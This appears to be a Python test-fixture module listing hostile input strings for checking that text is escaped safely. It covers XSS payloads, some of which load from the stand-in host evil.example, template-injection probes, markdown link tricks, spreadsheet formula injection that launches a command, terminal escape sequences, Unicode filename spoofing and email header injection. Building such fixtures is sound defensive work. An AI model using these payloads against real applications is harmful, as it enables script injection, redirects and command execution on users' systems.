"""Titles, names and sentences that try to be more than text."""

from __future__ import annotations

from typing import Final

MARKUP: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<iframe src='data:text/html,<script>alert(1)</script>'>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" x="',
    "</title><script>alert(1)</script>",
    "</blockquote></article><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }} {% include 'x' %} {{ ''.__class__ }}",
    "${7*7} #{7*7} %(x)s {0}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
MARKDOWN: Final = (
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "![x](http://evil.example/pixel.gif)",
    "<http://evil.example/>",
    "[x]: http://evil.example/ 'y'",
    "**bold** _it_ `code` ~~gone~~",
    "# heading",
    "> quote",
    "- item",
    "1. item",
    "```",
    "\\](http://evil.example/) \\",
    "x](http://evil.example/) [y",
    "| a | b |",
    "www.evil.example and http://evil.example/",
)
FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/","x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1dHYPERLINK(1)",
    '",=1+1,"',
)
COMMANDS: Final = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mred",
    "back\x08\x08\x08space",
    "\u202etxt.exe\u202c",
    "line\u2028break\u2029here\u0085now",
    "first\r\nBcc: evil@example.org",
    "[bold red]rich[/bold red] [link=http://evil.example]x[/link]",
)
ALL: Final = MARKUP + MARKDOWN + FORMULAS + COMMANDS
